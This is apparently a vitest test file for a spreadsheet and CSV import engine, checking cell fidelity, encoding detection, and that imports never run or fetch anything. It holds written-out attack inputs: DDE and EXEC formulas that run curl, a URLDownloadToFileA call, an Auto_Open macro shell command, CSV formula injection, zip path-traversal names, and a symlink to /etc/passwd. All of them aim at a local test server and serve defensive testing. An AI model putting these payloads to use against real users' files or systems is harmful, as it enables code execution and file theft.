import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { Server } from 'node:http'
import { createServer as createTcp } from 'node:net'
import { tmpdir } from 'node:os'
import { join, parse } from 'node:path'
import fc from 'fast-check'
import iconv from 'iconv-lite'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readSource } from '../../main/engine/import/source.ts'
import { importFile } from '../fixtures/import/reading.ts'
import { makeOds } from '../fixtures/import/ods.ts'
import type { CellSpec } from '../fixtures/import/workbook.ts'
import { columnName, makeWorkbook } from '../fixtures/import/workbook.ts'
import { makeZip } from '../fixtures/import/zip.ts'

/** Everything happens in `outer/in`; nothing may appear beside what a test put there. */
let outer: string
let folder: string
beforeAll(() => {
  outer = mkdtempSync(join(tmpdir(), 'yinguo-generated-'))
  folder = join(outer, 'in', 'deep')
  mkdirSync(folder, { recursive: true })
})
afterAll(() => { rmSync(outer, { recursive: true, force: true }) })
const put = (name: string, bytes: Buffer | string): string => {
  const path = join(folder, name)
  writeFileSync(path, bytes)
  return path
}

/** A cell as it stands in the file, what it must become, and which count of the issue list must tell of it when it becomes nothing. */
interface Known { cell: CellSpec; text: string; told: 'errorCells' | 'brokenCells' | 'formulasWithoutValue' | 'longNumbers' | null }
const escape = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')
const word = fc.string({ unit: fc.constantFrom(...'好坏ABCxyz中文<>&"\'éñ𠮷 😀-=+@#'), minLength: 1, maxLength: 12 }).map(text => `w${text}w`)
const whole = fc.integer({ min: -1_000_000, max: 1_000_000 })
const known: fc.Arbitrary<Known> = fc.oneof(
  { weight: 4, arbitrary: word.map((text): Known => ({ cell: text, text, told: null })) },
  { weight: 4, arbitrary: whole.map((n): Known => ({ cell: n, text: String(n), told: null })) },
  fc.tuple(whole, fc.integer({ min: 1, max: 99 })).map(([n, d]): Known => { const value = Number(`${n}.${d}1`); return { cell: value, text: String(value), told: null } }),
  fc.bigInt({ min: 10n ** 17n, max: 10n ** 19n }).map((n): Known => ({ cell: { inner: `<v>${n}</v>` }, text: String(n), told: 'longNumbers' })),
  word.map((text): Known => ({ cell: { attributes: 't="str"', inner: `<f>A1&amp;"x"</f><v>${escape(text)}</v>` }, text, told: null })),
  word.map((text): Known => ({ cell: { attributes: 't="inlineStr"', inner: `<is><r><t>${escape(text.slice(0, 1))}</t></r><r><t xml:space="preserve">${escape(text.slice(1))}</t></r></is>` }, text, told: null })),
  fc.boolean().map((on): Known => ({ cell: { attributes: 't="b"', inner: `<v>${on ? 1 : 0}</v>` }, text: on ? 'TRUE' : 'FALSE', told: null })),
  fc.constantFrom('#N/A', '#DIV/0!', '#REF!').map((text): Known => ({ cell: { attributes: 't="e"', inner: `<v>${text}</v>` }, text: '', told: 'errorCells' })),
  fc.integer({ min: 5_000, max: 9_000_000 }).map((index): Known => ({ cell: { attributes: 't="s"', inner: `<v>${index}</v>` }, text: '', told: 'brokenCells' })),
  fc.constant<Known>({ cell: { inner: '<f>NOW()</f>' }, text: '', told: 'formulasWithoutValue' }),
  word.map((text): Known => ({ cell: { inner: `<v>${escape(text)}</v>` }, text: text.trim(), told: null })),
  { weight: 2, arbitrary: fc.constant<Known>({ cell: null, text: '', told: null }) },
)

describe('what cannot be read is said (I3)', () => {
  it('every cell of a workbook arrives as it is, or is counted in the list', async () => {
    const grid = fc.integer({ min: 2, max: 5 }).chain(columns => fc.array(fc.array(known, { minLength: columns, maxLength: columns }), { minLength: 2, maxLength: 8 }))
    await fc.assert(fc.asyncProperty(grid, fc.constantFrom('shared' as const, 'inline' as const), fc.boolean(), async (rows, texts, withoutReferences) => {
      // Without references an empty cell cannot be told from one that is not there.
      const cells = withoutReferences ? rows.map(row => row.map(each => (each.cell === null ? { cell: 'leer', text: 'leer', told: null } : each))) : rows
      const titles = cells[0]!.map((_, column) => `第${column + 1}题 关于服务`)
      const path = put('known.xlsx', makeWorkbook({ texts, withoutReferences, sheets: [{ name: '答卷', rows: [titles, ...cells.map(row => row.map(each => each.cell))] }] }))
      const { table, issues } = await readSource(path, 'known.xlsx', {})
      const imported = new Map(Array.from({ length: table.rows }, (_, row) => [table.rowNumber(row), table.rowTexts(row)]))
      cells.forEach((row, r) => row.forEach((each, c) => { expect(imported.get(r + 2)?.[c] ?? '', `${columnName(c)}${r + 2}`).toBe(each.text) }))
      const told = Object.groupBy(cells.flat(), each => each.told ?? 'nothing')
      for (const kind of ['errorCells', 'brokenCells', 'formulasWithoutValue', 'longNumbers'] as const) expect(issues[kind], kind).toBe(told[kind]?.length ?? 0)
      // Arrived and listed together are all cells.
      const arrived = table.cells - titles.length
      expect(arrived + issues.errorCells + issues.brokenCells + issues.formulasWithoutValue).toBe(cells.flat().filter(each => each.cell !== null).length)
    }), { numRuns: 200, seed: 20260105 })
  })
})

describe('encodings are right or asked about (I5)', () => {
  const chinese = [
    '编号,性别,总体满意度,意见\n1,男,4,排队时间太长，希望增加窗口\n2,女,5,服务态度很好\n3,男,3,一般\n', '姓名,评价\n李镕基,很满意\n王𠮷,㐂欢这里的服务\n', '序号\t来源\t答案\n1\t微信\t满意\n2\t手机提交\t不满意，等待太久\n',
    '题目;选项\n"您对物业是否满意？";非常满意\n"您的年龄";18～25岁\n',
  ]
  const traditional = ['編號,性別,滿意度,意見\n1,男,4,排隊太久，櫃檯人手不足\n2,女,5,服務態度很好\n', '問題,答案\n您對服務是否滿意,非常滿意\n您的職業,學生\n']
  const western = ['id,comment\n1,très bien, déjà vu\n2,größer als früher\n', 'id,city,remark\n1,Málaga,“fine” – it’s good\n2,Zürich,über alles\n']
  const utf = (text: string): [string, Buffer][] => [
    ['utf-8', Buffer.from(text)], ['utf-8', Buffer.from(`\ufeff${text}`)], ['utf-16le', Buffer.from(`\ufeff${text}`, 'utf16le')], ['utf-16be', Buffer.from(`\ufeff${text}`, 'utf16le').swap16()], ['utf-16le', Buffer.from(text, 'utf16le')], ['utf-16be', Buffer.from(text, 'utf16le').swap16()],
  ]
  /** Text, encoding, bytes: what is written must be read. */
  const whole: [string, string, Buffer][] = [
    ...[...chinese, ...traditional].flatMap(text => utf(text).map(([encoding, bytes]): [string, string, Buffer] => [text, encoding, bytes])),
    ...western.flatMap(text => utf(text).slice(0, 4).map(([encoding, bytes]): [string, string, Buffer] => [text, encoding, bytes])),
    ...chinese.map((text): [string, string, Buffer] => [text, 'gb18030', iconv.encode(text, 'gb18030')]),
    ...traditional.map((text): [string, string, Buffer] => [text, 'big5', iconv.encode(text, 'big5')]),
    ...western.map((text): [string, string, Buffer] => [text, 'windows-1252', iconv.encode(text, 'windows-1252')]),
  ]
  /** Files that no encoding reads whole: cut in a character, two encodings, bytes of neither, NULs. */
  const head = '编号,意见\n1,排队太久了，窗口也少，希望改善服务的态度\n'
  const spoilt: [string, Buffer][] = [
    ['utf-8 cut after one byte', Buffer.from(`${head}2,好`).subarray(0, -2)], ['utf-8 cut after two bytes', Buffer.from(`${head}2,好`).subarray(0, -1)], ['utf-8 with 0xff', Buffer.concat([Buffer.from(`${head}2,`), Buffer.from([0xff]), Buffer.from('很好，服务态度不错\n')])],
    ['utf-8 then gbk', Buffer.concat([Buffer.from(head.repeat(3)), iconv.encode('2,满意\n', 'gb18030')])], ['gbk then utf-8', Buffer.concat([iconv.encode(head.repeat(3), 'gb18030'), Buffer.from('2,不满意，等了很久\n')])], ['gbk cut in a character', iconv.encode(`${head}2,好`, 'gb18030').subarray(0, -1)],
    ['utf-16 of odd length', Buffer.from(`\ufeff${head}2,好`, 'utf16le').subarray(0, -1)], ['utf-16 with half a pair', Buffer.from('\ufeff编号,意见\n1,好\ud842,不错\n2,差\n', 'utf16le')],
  ]

  it(`${whole.length} files come in as they were written`, async () => {
    expect(whole.length + spoilt.length).toBeGreaterThanOrEqual(60)
    for (const [text, encoding, bytes] of whole) {
      const file = await readSource(put('text.csv', bytes), 'text.csv', {})
      const what = `${encoding}: ${text.slice(0, 20)}`
      const lines = Array.from({ length: file.table.rows }, (_, row) => file.table.rowTexts(row).join(''))
      const written = text.trim().split('\n').map(line => line.replaceAll(/[",;\t]/g, ''))
      // What is not read as it was written must at least be asked about.
      if (file.encoding !== encoding) expect(file.encodingConfidence, what).toBeLessThan(0.9)
      else expect(lines.map(line => line.replaceAll(/[",;\t]/g, '')), what).toEqual(written)
      expect(lines.some(line => line.includes('\ufffd')), what).toBe(false)
      expect(file.bytes.equals(bytes), what).toBe(true)
    }
  })

  it.each(spoilt)('%s: no wrong character is passed over', async (_, bytes) => {
    const outcome = await importFile(put('spoilt.csv', bytes)).catch((error: unknown) => error as { code: string })
    if ('code' in outcome) { expect(['M12', 'M23', 'M07']).toContain(outcome.code); return }
    const codes = outcome.warnings.map(warning => warning.code)
    expect(codes.includes('undecodable') || codes.includes('encodingGuess')).toBe(true)
  })
})

describe('nothing in a file is run or fetched (I7)', () => {
  let web: Server
  let url: string
  const asked: string[] = []
  const dialled = createTcp(socket => { asked.push('tcp'); socket.destroy() })
  beforeAll(async () => {
    web = createServer((request, response) => { asked.push(request.url ?? ''); response.end('<a/>') })
    await new Promise<void>(resolve => { web.listen(0, '127.0.0.1', resolve) })
    await new Promise<void>(resolve => { dialled.listen(0, '127.0.0.1', resolve) })
    url = `http://127.0.0.1:${(web.address() as { port: number }).port}`
  })
  afterAll(() => { web.close(); dialled.close() })

  const titles = ['您的满意度', '意见和建议']
  const relations = (type: string, target: string): { name: string; data: string } => ({ name: 'xl/worksheets/_rels/sheet1.xml.rels', data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>` })
  const formula = (text: string): Buffer => makeWorkbook({ sheets: [{ name: 'S', rows: [titles, [{ inner: `<f>${escape(text)}</f><v>4</v>` }, '好'], [5, '行']] }] })
  const sheet = (after: string, parts: { name: string; data: string }[] = []): Buffer => makeWorkbook({ sheets: [{ name: 'S', rows: [titles, [4, '好'], [5, '行']], after }], parts })
  const cases = (): [string, string, Buffer | string][] => {
    const port = (dialled.address() as { port: number }).port
    return [
      ...[`WEBSERVICE("${url}/w")`, `HYPERLINK("${url}/h","x")`, `IMAGE("${url}/i.png")`, `FILTERXML(WEBSERVICE("${url}/f"),"//a")`, `IMPORTXML("${url}/x","//a")`, `IMPORTDATA("${url}/d")`, `cmd|'/c curl ${url}/dde'!A1`, `[1]Sheet1!A1`, `'${url}/[b.xlsx]S'!A1`, `RTD("x",,"${url}")`, `CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"${url}/c")`, `EXEC("curl ${url}/e")`]
        .map((text, i): [string, string, Buffer] => [`formula ${text.slice(0, 30)}`, `f${i}.xlsx`, formula(text)]),
      ...['hyperlink', 'image', 'oleObject', 'externalLink', 'externalLinkPath', 'queryTable', 'attachedTemplate', 'frame'].map((type, i): [string, string, Buffer] => [`relation ${type}`, `r${i}.xlsx`, sheet('<drawing r:id="rId1"/>', [relations(type, `${url}/${type}`)])]),
      ['file relation', 'r9.xlsx', sheet('', [relations('image', `\\\\127.0.0.1@${port}\\share\\x.png`)])],
      ['connections', 'c.xlsx', sheet('', [{ name: 'xl/connections.xml', data: `<connections><connection id="1" name="c" refreshOnLoad="1"><webPr url="${url}/web"/><dbPr connection="Data Source=${url}"/></connection></connections>` }])],
      ['external book', 'x.xlsx', sheet('', [{ name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink><externalBook r:id="rId1"/></externalLink>' }, { name: 'xl/externalLinks/_rels/externalLink1.xml.rels', data: `<Relationships><Relationship Id="rId1" Type="externalLinkPath" Target="${url}/book.xlsx" TargetMode="External"/></Relationships>` }])],
      ['macros', 'm.xlsm', sheet('', [{ name: 'xl/vbaProject.bin', data: `Sub Auto_Open: Shell "curl ${url}/vba"` }])],
      ['ods link and formula', 'o.ods', makeOds(`<table:table table:name="S"><table:table-source xlink:href="${url}/source"/><table:table-row>${titles.map(text => `<table:table-cell office:value-type="string"><text:p>${text}</text:p></table:table-cell>`).join('')}</table:table-row><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;${url}/w&quot;)" office:value-type="float" office:value="4"/><table:table-cell office:value-type="string"><text:p><text:a xlink:href="${url}/a">好</text:a></text:p></table:table-cell></table:table-row></table:table>`)],
      ['csv of commands', 'd.csv', `${titles.join(',')}\n4,"=cmd|'/c curl ${url}/csv'!A1"\n5,"@SUM(1)"\n`],
      ['csv of links', 'l.csv', `${titles.join(',')}\n4,"=HYPERLINK(""${url}/l"")"\n5,<img src=${url}/img>\n`],
    ]
  }

  it('formulas, links, connections, macros: only stored values come in, and no socket is opened', async () => {
    const all = cases()
    expect(all.length).toBeGreaterThanOrEqual(25)
    for (const [what, name, bytes] of all) {
      const { proposal, values } = await importFile(put(name, bytes))
      expect(proposal.recipe.variables.map(variable => variable.label), what).toEqual(titles)
      expect(values(proposal.recipe.variables[0]!.id)[0], what).toBe(4)
    }
    await new Promise(resolve => { setTimeout(resolve, 100) })
    expect(asked).toEqual([])
  })
})

describe('no path escapes (I8)', () => {
  const csv = '您的性别,满意度\n男,4\n女,5\n'
  const bases = ['evil.csv', '评价.csv']
  const ways = [
    '../', '../../', '../../../../../../../../', '/', '/tmp/', 'C:\\', 'C:', 'c:/windows/', '\\\\host\\share\\', '//host/share/', '\\\\?\\C:\\', 'a/../../', 'a\\..\\..\\', './../', '..\\', 'file:///', 'CON/', 'aux.', 'nul:', 'x\u0000/', '%2e%2e/', '\u202e/', '~/', '$HOME/',
  ]
  it(`${ways.length * bases.length} names in a zip: read, nothing written, no folder in the name that is kept`, async () => {
    expect(ways.length * bases.length).toBeGreaterThanOrEqual(40)
    const elsewhere = [parse(process.cwd()).root, tmpdir(), process.cwd()].flatMap(folder => bases.map(base => join(folder, base))).filter(place => !existsSync(place))
    for (const way of ways) for (const base of bases) {
      const path = put('evil.zip', makeZip([{ name: `${way}${base}`, data: csv }]))
      const before = readdirSync(outer, { recursive: true }).sort()
      const { proposal, rows } = await importFile(path)
      expect(rows, way).toBe(2)
      expect(proposal.source.file, way).not.toMatch(/[/\\]/)
      expect(readdirSync(outer, { recursive: true }).sort(), way).toEqual(before)
      for (const place of elsewhere) expect(existsSync(place), `${way} ${place}`).toBe(false)
    }
  })

  it('a link in a zip is a text like any other', async () => {
    // Unix mode 0120777 in the external attributes: a symbolic link to its own content.
    const zip = makeZip([{ name: 'link.csv', data: '/etc/passwd' }])
    zip.writeUInt32LE((0o120777 << 16) >>> 0, zip.lastIndexOf(Buffer.from('PK\u0001\u0002')) + 38)
    await expect(importFile(put('link.zip', zip))).rejects.toMatchObject({ code: 'M23' })
  })
})
